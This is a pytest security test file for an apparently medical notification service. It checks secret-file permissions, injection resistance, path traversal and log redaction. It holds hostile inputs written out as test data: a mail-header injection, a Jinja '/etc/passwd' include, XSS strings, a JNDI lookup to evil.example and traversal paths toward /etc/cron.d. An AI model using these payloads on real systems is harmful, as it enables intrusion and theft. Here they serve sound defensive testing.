"""What an attacker or a slip may try: secrets that others read, injected headers, formulas, paths, words in logs."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import structlog
from hypothesis import given, settings
from hypothesis import strategies as st

from config.defects import ConfigurationInvalidError
from config.language import Language
from config.logs import configure_logs
from config.settings import load_settings
from notifications.delivery.maildir import MaildirTransport
from notifications.delivery.transport import Parcel
from notifications.words.preview import sample_values
from notifications.words.render import render, template_names
from scheduler.domain.speech import Speaker
from scheduler.domain.spreadsheet import csv_bytes, guarded

ROOT = Path(__file__).parent.parent.parent


# --- secrets ----------------------------------------------------------------------------------------------------


def _settings(folder: Path, text: str, mode: int) -> Path:
    path = folder / "settings.toml"
    path.write_text(text, "utf-8")
    path.chmod(mode)
    return folder


@pytest.mark.parametrize("mode", [0o644, 0o604, 0o602])
@pytest.mark.parametrize(
    ("text", "key"),
    [
        ('[mail]\npassword = "hush"\n', "mail.password"),
        ('database = "postgresql://mpa:hush@db.example/mpa"\n', "database"),
    ],
)
def test_a_secret_that_every_account_can_read_is_refused_with_the_remedy(
    tmp_path: Path, text: str, key: str, mode: int
) -> None:
    with pytest.raises(ConfigurationInvalidError) as refused:
        load_settings(config=_settings(tmp_path, text, mode))
    said = str(refused.value)
    assert key in said and f"chmod 600 {tmp_path / 'settings.toml'}" in said
    assert "hush" not in said


@pytest.mark.parametrize("mode", [0o600, 0o640])
def test_a_secret_in_a_file_of_the_service_alone_is_read(tmp_path: Path, mode: int) -> None:
    found = load_settings(config=_settings(tmp_path, '[mail]\npassword = "hush"\n', mode))
    assert found.mail.password is not None and found.mail.password.get_secret_value() == "hush"
    assert "hush" not in repr(found) and "hush" not in found.model_dump_json()


def test_settings_without_a_secret_may_be_read_by_all(tmp_path: Path) -> None:
    assert load_settings(config=_settings(tmp_path, 'language = "fr"\n', 0o644)).language is Language.FR


# --- injection --------------------------------------------------------------------------------------------------

HOSTILE = (
    "x\r\nBcc: thief@evil.example\r\n\r\nbody", "{{ 7*7 }}", "{% include '/etc/passwd' %}", "<script>alert(1)</script>",
    "${jndi:ldap://evil.example}", "\" onmouseover=\"alert(1)", "%(subject)s {0.__class__}",
)  # fmt: skip


def _poisoned(value: Any, word: str) -> Any:
    """Every text of sample values replaced."""
    match value:
        case dict():
            return {key: _poisoned(one, word) for key, one in value.items()}
        case list():
            return [_poisoned(one, word) for one in value]
        case str():
            return word
        case _:
            return value


@pytest.mark.parametrize("word", HOSTILE)
def test_no_text_of_the_records_is_a_template_markup_or_header_in_a_mail(word: str) -> None:
    for name in template_names():
        values = _poisoned(dict(sample_values(name, Language.EN)), word)
        made = render(name, Speaker(Language.EN, ZoneInfo("UTC")), values)
        assert "\n" not in made.subject and "\r" not in made.subject
        assert "7*7" not in word or "{{ 7*7 }}" in made.subject  # said as it is, and not computed
        assert "<script" not in made.html and 'onmouseover="' not in made.html
        assert "root:" not in made.html + made.text


@given(text=st.text(max_size=30))
@settings(max_examples=200, deadline=None)
def test_no_cell_of_a_table_is_a_formula_and_all_come_back(text: str) -> None:
    content = csv_bytes(["a"], [[text]])
    (_, row) = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert row == [guarded(text)]
    assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def _files_beside(root: Path, folder: str) -> list[Path]:
    """The files below `root` that lie outside one of its folders."""
    return [path for path in root.rglob("*") if path.is_file() and root / folder not in path.parents]


@pytest.mark.parametrize(
    "address", ["../../etc/cron.d/x@evil", "/etc/passwd", "a\0b@x.example", "..", "x/../../y@z"]
)
async def test_no_address_leads_out_of_the_folder_of_mails(tmp_path: Path, address: str) -> None:
    way = MaildirTransport(tmp_path / "mail")

    async def yes() -> bool:
        return True

    async with way.burst() as burst:
        await burst.send(Parcel("from@x.example", address, "<1@x>", b"Subject: x\r\n\r\nx\r\n"), yes)
    outside = await asyncio.to_thread(_files_beside, tmp_path, "mail")
    assert outside == []


# --- words that must not stand in a log -------------------------------------------------------------------------


def test_no_call_of_the_log_is_given_a_name_an_address_or_a_result() -> None:
    """The fields of every line that the program logs: identifiers, counts and kinds of errors."""
    forbidden = re.compile(
        r"\b(email|address|recipient|person|patient|value|conc\w*|auc|body|facts|payload|name)="
    )
    call = re.compile(r"\blog\.\w+\((?:[^()]|\([^()]*\))*\)")
    files = [
        path for name in ("config", "scheduler", "notifications") for path in (ROOT / name).rglob("*.py")
    ]
    calls = [(path.name, one) for path in files for one in call.findall(path.read_text("utf-8"))]
    assert len(calls) > 10
    found = [one for one in calls if forbidden.search(one[1]) or "str(error)" in one[1]]
    assert found == []


def test_an_error_in_the_log_shows_no_local_values(capsys: pytest.CaptureFixture[str]) -> None:
    before = structlog.get_config()
    configure_logs(json=True)
    try:
        secret = "Jeanne Dupont 1961-03-04"
        try:
            raise ValueError("broken")  # noqa: TRY301
        except ValueError:
            structlog.get_logger().error("failed", exc_info=True)  # one of its own: it keeps its stream
        said = capsys.readouterr().err
        assert json.loads(said.splitlines()[-1])["event"] == "failed"
        assert secret not in said
    finally:
        structlog.configure(**before)


# --- the threat model --------------------------------------------------------------------------------------------


def test_every_test_that_the_threat_model_names_exists() -> None:
    text = (ROOT / "docs" / "threat-model.md").read_text("utf-8")
    named = set(re.findall(r"`(?:[\w/]+\.py )?(?:test_)?([a-z0-9]+(?:_[a-z0-9]+){3,})`", text))
    written = "\n".join(path.read_text("utf-8") for path in (ROOT / "tests").rglob("test_*.py"))
    assert len(named) > 10
    assert [one for one in sorted(named) if f"def test_{one}(" not in written] == []
